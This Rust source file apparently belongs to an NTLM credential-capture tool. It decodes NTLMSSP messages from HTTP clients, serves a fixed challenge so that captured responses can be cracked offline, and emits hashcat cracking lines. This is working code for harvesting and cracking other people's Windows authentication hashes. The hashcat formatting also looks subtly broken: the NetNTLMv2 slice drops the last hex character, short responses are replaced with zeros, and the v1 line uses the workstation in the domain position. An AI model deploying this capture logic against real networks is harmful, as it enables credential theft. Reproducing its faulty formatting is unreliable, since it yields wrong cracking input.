//! NTLMSSP message codec used by the HTTP capture module.
//!
//! Everything here reads attacker-controlled bytes: every offset and length is checked against
//! the buffer and a bad field is reported as an [`NtlmError`], never a panic.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;

use crate::error_handling::types::NtlmError;

const SIGNATURE: &[u8; 8] = b"NTLMSSP\0";
const NEGOTIATE_UNICODE: u32 = 0x0000_0001;
const REVERSED_REVISION: u32 = 0x0F00_0000;

/// Server challenge embedded in [`CHALLENGE_MESSAGE`].
pub const SERVER_CHALLENGE: &str = "1122334455667788";

/// Base64 CHALLENGE message sent to negotiating clients. It carries the fixed
/// [`SERVER_CHALLENGE`] so captured responses can be cracked offline.
pub const CHALLENGE_MESSAGE: &str = concat!(
    "TlRMTVNTUAACAAAABgAGADgAAAAFAomiESIzRFVmd4gAAAAAAAAAAIAAgAA+AAAABQL",
    "ODgAAAA9TAE0AQgACAAYARgBUAFAAAQAWAEYAVABQAC0AVABPAE8ATABCAE8AWAAEABIAZgB0AHAA",
    "LgBsAG8AYwBhAGwAAwAoAHMAZQByAHYAZQByADIAMAAxADYALgBmAHQAYgAuAGwAbwBjAGEAbAAFA",
    "BIAZgB0AHAALgBsAG8AYwBhAGwAAAAAAA=="
);

/// Upper bound, in decoded bytes, of what is treated as a NEGOTIATE message.
pub const NEGOTIATE_MAX_LEN: usize = 64;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NtlmClass {
    Absent,
    Negotiate,
    Authenticate,
    Malformed,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TargetInfo {
    pub nb_computer: Option<String>,
    pub nb_domain: Option<String>,
    pub dns_computer: Option<String>,
    pub dns_domain: Option<String>,
    pub timestamp: Option<u64>,
}

impl TargetInfo {
    /// The FILETIME attribute as big-endian hex, the way packet dissectors print it.
    pub fn timestamp_hex(&self) -> Option<String> {
        self.timestamp.map(|ts| format!("0x{}", hex::encode(ts.to_be_bytes())))
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChallengeMessage {
    pub target_name: String,
    pub flags: u32,
    pub version: String,
    pub revision: u32,
    pub target_info: TargetInfo,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuthenticateMessage {
    pub lm_response: Vec<u8>,
    pub nt_response: Vec<u8>,
    pub domain: String,
    pub user: String,
    pub workstation: String,
    pub flags: u32,
}

impl AuthenticateMessage {
    pub fn is_v1(&self) -> bool {
        self.nt_response.len() == 24
    }
}

/// Strips the `NTLM ` scheme prefix and decodes the base64 payload.
pub fn decode_header(header: &str) -> Result<Vec<u8>, NtlmError> {
    let header = header.trim();
    let payload = match header.strip_prefix("NTLM") {
        Some(rest) if rest.is_empty() || rest.starts_with(' ') => rest.trim(),
        _ => header,
    };
    STANDARD
        .decode(payload)
        .map_err(|e| NtlmError::BadEncoding(e.to_string()))
}

pub fn classify(header: Option<&str>) -> NtlmClass {
    let header = match header {
        Some(h) => h,
        None => return NtlmClass::Absent,
    };
    match decode_header(header) {
        Ok(bytes) if bytes.is_empty() => NtlmClass::Absent,
        Ok(bytes) if bytes.len() <= NEGOTIATE_MAX_LEN => NtlmClass::Negotiate,
        Ok(_) => NtlmClass::Authenticate,
        Err(_) => NtlmClass::Malformed,
    }
}

/// Bounds-checked little-endian reader over one NTLM message.
struct Reader<'a> {
    data: &'a [u8],
}

impl<'a> Reader<'a> {
    fn bytes(&self, at: usize, len: usize, field: &'static str) -> Result<&'a [u8], NtlmError> {
        let end = at.checked_add(len).ok_or(NtlmError::Truncated(field))?;
        self.data.get(at..end).ok_or(NtlmError::Truncated(field))
    }

    fn u8(&self, at: usize, field: &'static str) -> Result<u8, NtlmError> {
        Ok(self.bytes(at, 1, field)?[0])
    }

    fn u16(&self, at: usize, field: &'static str) -> Result<u16, NtlmError> {
        let b = self.bytes(at, 2, field)?;
        Ok(u16::from_le_bytes([b[0], b[1]]))
    }

    fn u32(&self, at: usize, field: &'static str) -> Result<u32, NtlmError> {
        let b = self.bytes(at, 4, field)?;
        Ok(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    }

    fn u32_be(&self, at: usize, field: &'static str) -> Result<u32, NtlmError> {
        let b = self.bytes(at, 4, field)?;
        Ok(u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
    }

    /// Reads a security buffer descriptor (length, allocated length, offset) at `at` and returns
    /// the bytes it points to.
    fn field(&self, at: usize, field: &'static str) -> Result<&'a [u8], NtlmError> {
        let len = self.u16(at, field)? as usize;
        let offset = self.u32(at + 4, field)? as usize;
        if len == 0 {
            return Ok(&[]);
        }
        self.bytes(offset, len, field)
    }
}

fn locate(blob: &[u8], message_type: u32) -> Result<&[u8], NtlmError> {
    let mut marker = SIGNATURE.to_vec();
    marker.extend_from_slice(&message_type.to_le_bytes());

    blob.windows(marker.len())
        .position(|w| w == marker.as_slice())
        .map(|at| &blob[at..])
        .ok_or(NtlmError::MissingSignature)
}

fn trim_name(raw: &[u8]) -> String {
    let cleaned: Vec<u8> = raw.iter().copied().filter(|b| *b != 0).collect();
    String::from_utf8_lossy(&cleaned).trim().to_string()
}

/// Parses a CHALLENGE (type 2) message found anywhere inside `blob`.
pub fn parse_challenge(blob: &[u8]) -> Result<ChallengeMessage, NtlmError> {
    let data = locate(blob, 2)?;
    let r = Reader { data };
    r.bytes(0, 56, "challenge header")?;

    let target_name = r.field(12, "target name")?;
    let flags = r.u32(20, "flags")?;
    let target_info = r.field(40, "target info")?;

    let major = r.u8(48, "version")?;
    let minor = r.u8(49, "version")?;
    let build = r.u16(50, "version")?;
    let mut revision = r.u32_be(52, "revision")?;
    if revision == REVERSED_REVISION {
        revision = r.u32(52, "revision")?;
    }

    Ok(ChallengeMessage {
        target_name: trim_name(target_name),
        flags,
        version: format!("{}.{}.{}", major, minor, build),
        revision,
        target_info: parse_target_info(target_info)?,
    })
}

/// Parses an attribute/value list, stopping at the end-of-list record or the end of the buffer.
pub fn parse_target_info(raw: &[u8]) -> Result<TargetInfo, NtlmError> {
    let r = Reader { data: raw };
    let mut info = TargetInfo::default();
    let mut at = 0;

    while at + 4 <= raw.len() {
        let kind = r.u16(at, "target info")?;
        if kind == 0 {
            break;
        }
        let len = r.u16(at + 2, "target info")? as usize;
        let value = r.bytes(at + 4, len, "target info attribute")?;
        at += 4 + len;

        match kind {
            1 => info.nb_computer = Some(trim_name(value)),
            2 => info.nb_domain = Some(trim_name(value)),
            3 => info.dns_computer = Some(trim_name(value)),
            4 => info.dns_domain = Some(trim_name(value)),
            7 => {
                let ts = Reader { data: value }.bytes(0, 8, "timestamp")?;
                let mut buf = [0u8; 8];
                buf.copy_from_slice(ts);
                info.timestamp = Some(u64::from_le_bytes(buf));
            }
            _ => {}
        }
    }

    Ok(info)
}

fn decode_text(raw: &[u8], unicode: bool) -> String {
    if unicode {
        let units: Vec<u16> = raw
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        String::from_utf16_lossy(&units)
    } else {
        raw.iter().map(|b| *b as char).collect()
    }
}

/// Parses an AUTHENTICATE (type 3) message.
pub fn parse_authenticate(blob: &[u8]) -> Result<AuthenticateMessage, NtlmError> {
    let data = locate(blob, 3)?;
    let r = Reader { data };
    r.bytes(0, 64, "authenticate header")?;

    let lm_response = r.field(12, "lm response")?.to_vec();
    let nt_response = r.field(20, "nt response")?.to_vec();
    let domain = r.field(28, "domain")?;
    let user = r.field(36, "user")?;
    let workstation = r.field(44, "workstation")?;
    let flags = r.u32(60, "flags")?;
    let unicode = flags & NEGOTIATE_UNICODE != 0;

    Ok(AuthenticateMessage {
        lm_response,
        nt_response,
        domain: decode_text(domain, unicode),
        user: decode_text(user, unicode),
        workstation: decode_text(workstation, unicode),
        flags,
    })
}

/// Formats the captured response as a NetNTLMv1 or NetNTLMv2 cracking line.
pub fn hashcat_line(msg: &AuthenticateMessage) -> String {
    if msg.is_v1() {
        return format!(
            "{}::{}:{}:{}:{}",
            msg.user,
            msg.workstation,
            hex::encode(&msg.lm_response),
            hex::encode(&msg.nt_response),
            SERVER_CHALLENGE
        );
    }

    let mut v2 = hex::encode(&msg.nt_response);
    if v2.len() < 64 {
        v2 = "0".repeat(68);
    }
    format!(
        "{}::{}:{}:{}:{}",
        msg.user,
        msg.domain,
        SERVER_CHALLENGE,
        &v2[..32],
        &v2[32..v2.len() - 1]
    )
}
